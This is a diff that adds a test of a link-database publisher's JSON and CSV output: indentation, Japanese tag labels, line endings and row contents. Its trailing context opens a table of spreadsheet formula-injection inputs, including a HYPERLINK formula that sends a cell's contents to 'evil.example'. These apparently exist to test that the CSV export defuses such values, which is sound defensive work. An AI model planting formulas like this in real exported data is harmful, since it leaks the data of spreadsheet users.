@@ -60,6 +60,24 @@ def test_link_database_agrees_with_the_pages(published_basic):
     assert first["date"] == "2020-12-25" and first["permalink"] == "issues/0001.html#link-1"
 
 
+def test_link_database_files_as_written(published_basic):
+    """links.json: the tags' labels for the finder, one-space indents, Japanese unescaped,
+    a final line end; links.csv: lines end with LF, a card's tags separated by spaces."""
+    text = (published_basic.outdir / "links.json").read_text(encoding="utf-8")
+    data = json.loads(text)
+    assert text == json.dumps(data, ensure_ascii=False, indent=1) + "\n"
+    assert data["tags"]["nlp"] == {"ja": "自然言語処理", "en": "NLP"}
+    assert sorted(data["tags"]) == ["cpp", "nlp", "paper"]
+    assert data["competitions"] == {}
+    assert data["links"][0]["tags"] == ["nlp", "paper"]
+    raw = (published_basic.outdir / "links.csv").read_bytes().decode("utf-8-sig")
+    assert "\r" not in raw and raw.endswith("\n")
+    assert raw.splitlines()[1].startswith(
+        "1,2020-12-25,https://example.com/articles/one?id=7&lang=ja,First article,"
+        "example.com,nlp paper,"
+    )
+
+
 FORMULAS = {
     "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "site": "@SUM(1+1)",
